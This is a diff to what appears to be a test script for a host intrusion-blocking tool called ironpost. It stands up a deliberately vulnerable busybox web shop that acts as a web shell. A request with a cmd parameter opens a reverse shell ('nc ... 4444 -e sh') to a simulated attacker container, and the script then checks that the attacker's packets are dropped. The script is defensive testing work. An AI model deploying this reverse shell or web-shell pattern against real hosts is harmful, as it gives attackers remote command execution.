@@ -89,7 +89,8 @@ compose up -d >"$work/up.log" 2>&1 || { tail -n 20 "$work/up.log"; exit 1; }
 deploy/compose/wait.sh docker-compose -p ironpost --project-directory "$work/clone" -f "$work/clone/docker-compose.yml"
 until_true ironpost status
 
-step "A web shop runs in a container beside the stack; anybody may reach it."
+# The shop's server does not know who is connected: its log names the one client there is.
+step "A web shop runs in a container beside the stack."
 cat >serve.sh <<'END'
 #!/bin/sh
 # One request: its line goes to the log of the container; the parameter cmd is executed, as by a web shell.
@@ -100,7 +101,9 @@ case $target in *cmd=*) (nc "$PEER" 4444 -e sh </dev/null >/dev/null 2>&1 &) ;; 
 END
 docker run -d --name shop --restart always -p 80:80 -v "$PWD/serve.sh:/serve.sh:ro" busybox:latest \
   sh -c 'while :; do PEER='"$attacker"' nc -l -p 80 -e sh /serve.sh; done' >/dev/null
-shop() { as_attacker busybox wget -q -T 3 -O - "http://$host_address/$1"; }
+get() { printf 'GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n' "$3" "$1" | busybox nc -w 3 "$1" "$2"; } # host port path
+export -f get
+shop() { as_attacker bash -c "get $host_address 80 '$1'" | grep shop; }
 until_true shop ""
 until_true sh -c "$(declare -f ironpost compose); work=$work; ironpost status --json | grep -q '\"containers\":1[0-9]'"
 
@@ -134,7 +137,7 @@ until_true blocked
 step "The kernel of the host drops the attacker's packets:"
 dropped() {
   as_attacker busybox ping -c 1 -W 1 "$host_address" && return 1
-  on_host busybox wget -q -T 3 -O - http://127.0.0.1:9465/metrics | grep -E '^ironpost_ebpf_engine_[a-z_]*(blocked|dropped)[a-z_]*(\{[^}]*\})? [1-9]' >"$work/dropped"
+  on_host bash -c 'get 127.0.0.1 9465 metrics' | grep -E '^ironpost_ebpf_engine_[a-z_]*(blocked|dropped)[a-z_]*(\{[^}]*\})? [1-9]' >"$work/dropped"
 }
 until_true dropped
 ironpost blocklist list
